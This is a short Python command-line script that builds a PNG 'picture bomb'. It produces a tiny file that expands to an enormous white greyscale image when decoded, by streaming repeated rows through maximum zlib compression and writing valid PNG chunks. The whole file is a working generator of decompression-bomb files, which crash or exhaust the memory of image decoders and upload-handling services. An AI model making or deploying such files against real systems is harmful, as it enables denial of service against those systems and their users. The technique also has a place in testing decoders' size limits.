#!/usr/bin/env python3
"""Writes a PNG of one colour whose size is far beyond reason (a "picture bomb"): a file of
under a megabyte that unpacks to width x height pixels. Usage: make_picture_bomb.py OUT W H"""
import struct
import sys
import zlib


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def main() -> None:
    out, width, height = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    # 8-bit grey, every row filter 0 and white.
    row = b"\x00" + b"\xff" * width
    packer = zlib.compressobj(9)
    data = bytearray()
    for _ in range(height):
        data += packer.compress(row)
    data += packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    with open(out, "wb") as f:
        f.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", bytes(data)) +
                chunk(b"IEND", b""))


if __name__ == "__main__":
    main()
